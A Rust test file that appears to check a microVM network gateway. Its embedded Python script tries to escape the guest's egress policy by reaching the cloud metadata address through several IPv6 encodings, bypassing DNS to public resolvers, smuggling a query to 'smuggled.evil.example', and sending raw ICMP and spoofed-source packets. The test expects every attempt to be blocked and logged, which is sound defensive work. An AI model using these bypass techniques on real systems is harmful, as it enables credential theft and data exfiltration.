//! Ways around the policy, tried by a program in a microVM that is root there. Each must
//! fail at once, for the reason that the gateway gives, and be told of.
//!
//! `msb` runs in a network namespace of its own, in which there is nothing but loopback: if
//! something got through, it would still reach nobody.

use std::process::{Command, Stdio};

use crate::lab::{Lab, PYTHON, finish};

/// What the guest may reach: one name, and one port of the host, where nobody listens.
const RULES: [&str; 2] = ["allow tcp 443 web.example", "allow tcp 9 host"];

/// Attempts; each prints what came of it.
const SCRIPT: &str = r#"
import errno, socket, struct

def said(attempt, *args):
    try:
        return attempt(*args)
    except TimeoutError:
        return "silence"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))

def tcp(to, port):
    socket.create_connection((to, port), 60).close()
    return "connected"

def udp(to, port, payload=b"x"):
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(60)
        s.connect((to, port))
        s.send(payload)
        return s.recv(4096)

def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff

def ping(to):
    request = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"smuggled"
    request = request[:2] + struct.pack("!H", checksum(request)) + request[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.settimeout(60)
        s.setsockopt(socket.IPPROTO_IP, 11, 1)  # IP_RECVERR
        s.connect((to, 0))
        s.send(request)
        return s.recv(4096)

def spoofed(source, to):
    datagram = struct.pack("!HHHH", 5000, 9, 9, 0) + b"x"
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0,
                         socket.inet_aton(source), socket.inet_aton(to))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(header + datagram, (to, 0))
    return "sent"

def ask(server, name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
    answer = udp(server, 53, query)
    flags, _, answers = struct.unpack("!3H", answer[2:8])
    return "code %d, %d answers" % (flags & 15, answers)

for attempt, args in [
    (tcp, ("192.168.127.1", 9)),
    (tcp, ("169.254.169.254", 80)),
    (tcp, ("fd00:ec2::254", 80)),
    (tcp, ("1.1.1.1", 443)),
    (tcp, ("9.9.9.9", 853)),
    (tcp, ("8.8.8.8", 443)),
    (udp, ("8.8.8.8", 443)),
    (udp, ("2606:4700::1111", 853)),
    (tcp, ("::ffff:10.9.0.1", 80)),
    (tcp, ("64:ff9b::a9fe:a9fe", 80)),
    (tcp, ("2002:a9fe:a9fe::", 80)),
    (ping, ("8.8.4.4",)),
    (ask, ("8.8.8.8", "host.msb.internal")),
    (ask, ("8.8.8.8", "smuggled.evil.example")),
    (spoofed, ("11.0.0.9", "1.1.1.9")),
    # What is answered says that those before it are done with.
    (tcp, ("10.9.9.9", 80)),
]:
    print(attempt.__name__, *args, "->", said(attempt, *args))
"#;

/// What each attempt must print, and the event that tells of it.
const EXPECTED: [(&str, &[&str]); 16] = [
    (
        "tcp 192.168.127.1 9 -> ECONNREFUSED",
        &["allow", "\"port\":9,"],
    ),
    (
        "tcp 169.254.169.254 80 -> ECONNREFUSED",
        &["deny", "\"tcp\",\"address\":\"169.254.169.254\""],
    ),
    (
        "tcp fd00:ec2::254 80 -> ECONNREFUSED",
        &["deny", "\"tcp\",\"address\":\"fd00:ec2::254\""],
    ),
    (
        "tcp 1.1.1.1 443 -> ECONNREFUSED",
        &["deny", "\"tcp\",\"address\":\"1.1.1.1\",\"port\":443"],
    ),
    (
        "tcp 9.9.9.9 853 -> ECONNREFUSED",
        &["deny", "\"tcp\",\"address\":\"9.9.9.9\",\"port\":853"],
    ),
    (
        "tcp 8.8.8.8 443 -> ECONNREFUSED",
        &["deny", "\"tcp\",\"address\":\"8.8.8.8\",\"port\":443"],
    ),
    (
        "udp 8.8.8.8 443 -> EHOSTUNREACH",
        &["deny", "\"udp\",\"address\":\"8.8.8.8\",\"port\":443"],
    ),
    (
        "udp 2606:4700::1111 853 -> EACCES",
        &[
            "deny",
            "\"udp\",\"address\":\"2606:4700::1111\",\"port\":853",
        ],
    ),
    (
        "tcp ::ffff:10.9.0.1 80 -> ECONNREFUSED",
        &["deny", "\"tcp\",\"address\":\"10.9.0.1\""],
    ),
    (
        "tcp 64:ff9b::a9fe:a9fe 80 -> ECONNREFUSED",
        &["deny", "\"tcp\",\"address\":\"64:ff9b::a9fe:a9fe\""],
    ),
    (
        "tcp 2002:a9fe:a9fe:: 80 -> ECONNREFUSED",
        &["deny", "\"tcp\",\"address\":\"2002:a9fe:a9fe::\""],
    ),
    (
        "ping 8.8.4.4 -> EHOSTUNREACH",
        &["deny", "\"icmp\",\"address\":\"8.8.4.4\""],
    ),
    // It is the gateway that answers, whoever is asked.
    (
        "ask 8.8.8.8 host.msb.internal -> code 0, 1 answers",
        &[
            "\"name\":\"host.msb.internal\"",
            "\"server\":\"8.8.8.8:53\"",
        ],
    ),
    (
        "ask 8.8.8.8 smuggled.evil.example -> code 3, 0 answers",
        &[
            "\"name\":\"smuggled.evil.example\"",
            "\"refusal\":\"denied\"",
        ],
    ),
    ("spoofed 11.0.0.9 1.1.1.9 -> sent", &["spoofed-address"]),
    (
        "tcp 10.9.9.9 80 -> ECONNREFUSED",
        &["deny", "\"tcp\",\"address\":\"10.9.9.9\""],
    ),
];

#[test]
fn there_is_no_way_around_the_policy_and_each_attempt_is_told_of() {
    let lab = Lab::with_python();
    let mut msb = lab.msb(["run", "-q", "--net", "none", "--net-log", "-", "--json"]);
    for rule in RULES {
        msb.args(["--net-rule", rule]);
    }
    msb.args([PYTHON, "--", "python3", "-c", SCRIPT]);
    let run = finish(&mut alone(&msb), b"");
    let lines: Vec<_> = run.stdout.lines().collect();
    let expected: Vec<_> = EXPECTED.iter().map(|(line, _)| *line).collect();
    assert_eq!(lines, expected, "{run:?}");
    for (attempt, parts) in EXPECTED {
        let told = |line: &str| parts.iter().all(|part| line.contains(part));
        assert!(run.stderr.lines().any(told), "{attempt}: {run:?}");
    }
}

/// The same command in a network namespace with loopback alone.
fn alone(command: &Command) -> Command {
    let mut alone = Command::new("unshare");
    alone.args([
        "--net",
        "--",
        "sh",
        "-c",
        "ip link set lo up && exec \"$@\"",
        "sh",
    ]);
    alone.arg(command.get_program()).args(command.get_args());
    for (name, value) in command.get_envs() {
        match value {
            Some(value) => alone.env(name, value),
            None => alone.env_remove(name),
        };
    }
    alone.stdin(Stdio::null());
    alone
}
